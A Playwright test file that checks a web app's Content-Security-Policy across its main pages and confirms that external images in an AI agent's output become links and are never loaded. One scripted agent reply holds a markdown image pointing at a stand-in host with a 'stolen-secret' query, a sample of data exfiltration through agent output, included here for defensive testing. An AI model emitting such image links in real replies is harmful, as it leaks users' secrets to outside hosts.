import { expect, type Page, test } from "@playwright/test";
import { script } from "../support/model-server.ts";
import {
  marker,
  replies,
  send,
  startSession,
  TURN_TIMEOUT,
  waitForTurnEnd,
  waitUntilReady,
} from "../support/session.ts";
import { newUser, signUp } from "../support/studio.ts";

// The web app under its Content-Security-Policy: every main page works with no violation reported,
// and images in agent output load nothing from elsewhere (they become links).
test.describe.configure({ timeout: 240_000 });

/** Collects every CSP violation the page reports, across navigations. */
async function watchViolations(page: Page): Promise<string[]> {
  const violations: string[] = [];
  await page.exposeBinding("__reportCspViolation", (_source, text: string) => {
    violations.push(text);
  });
  // A string: this package's TypeScript has no DOM types.
  await page.addInitScript(`
    document.addEventListener("securitypolicyviolation", (event) => {
      window.__reportCspViolation(
        event.violatedDirective + " blocked " + (event.blockedURI || "inline") + " at " + event.sourceFile + ":" + event.lineNumber,
      );
    });
  `);
  page.on("console", (message) => {
    if (message.type() === "error" && /Content Security Policy/i.test(message.text()))
      violations.push(message.text());
  });
  return violations;
}

async function visit(page: Page, path: string, heading: RegExp | string) {
  const response = await page.goto(path);
  const policy = response?.headers()["content-security-policy"] ?? "";
  expect(policy, `policy of ${path}`).toContain("default-src 'self'");
  expect(policy, `policy of ${path}`).toContain("frame-ancestors 'none'");
  await expect(page.getByRole("heading", { level: 1, name: heading }).first()).toBeVisible();
}

test("every main page works under the policy, in light and dark", async ({ page }) => {
  const violations = await watchViolations(page);
  await page.emulateMedia({ colorScheme: "dark" });
  await visit(page, "/sign-in", "Sign in to Studio");
  // The inline theme script ran (allowed by its hash): dark before the app started.
  expect(await page.evaluate('document.documentElement.classList.contains("dark")')).toBe(true);
  await visit(page, "/sign-up", "Create your account");
  await signUp(page, newUser("csp"));
  await page.emulateMedia({ colorScheme: "light" });
  for (const [path, heading] of [
    ["/", "Studio"],
    ["/usage", /Usage/],
    ["/settings/profile", /Profile|Settings/],
    ["/settings/organization", /Organisation|Settings/],
    ["/settings/members", /Members|Settings/],
    ["/settings/keys", /keys|Settings/i],
    ["/settings/git-hosts", /Git hosts|Settings/],
    ["/settings/billing", /Credits|Billing|Settings/],
    ["/settings/api-tokens", /API tokens|Settings/],
  ] as const) {
    await visit(page, path, heading);
  }
  await page.goto("/no-such-page");
  await expect(page.getByText("Page not found")).toBeVisible();
  expect(violations).toEqual([]);
});

test("a session's images from elsewhere are links, loaded by nobody", async ({ page }) => {
  const violations = await watchViolations(page);
  const external: string[] = [];
  page.on("request", (request) => {
    if (new URL(request.url()).hostname.endsWith("images.example.test")) external.push(request.url());
  });
  await signUp(page, newUser("images"));
  await startSession(page);
  await waitUntilReady(page);
  const tag = marker();
  await script(tag, [
    {
      text: [
        "Here is the chart: ![usage chart](https://images.example.test/chart.png?d=stolen-secret)\n\n",
        "And a pixel: ![pixel](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=)\n\n",
        "```ts\nconst answer = 42;\n```\n",
      ],
    },
  ]);
  await send(page, `${tag} show me a chart`);
  const reply = replies(page).filter({ hasText: "Here is the chart" });
  await expect(reply).toBeVisible({ timeout: TURN_TIMEOUT });
  await waitForTurnEnd(page);

  const link = reply.getByRole("link", { name: "usage chart" });
  await expect(link).toHaveAttribute("href", "https://images.example.test/chart.png?d=stolen-secret");
  await expect(link).toHaveAttribute("rel", "noreferrer noopener");
  await expect(reply.locator('img[src^="https:"]')).toHaveCount(0);
  await expect(reply.getByRole("img", { name: "pixel" })).toBeVisible();
  await expect(reply.locator("pre code")).toContainText("const answer = 42;");
  expect(external).toEqual([]);
  expect(violations).toEqual([]);
});
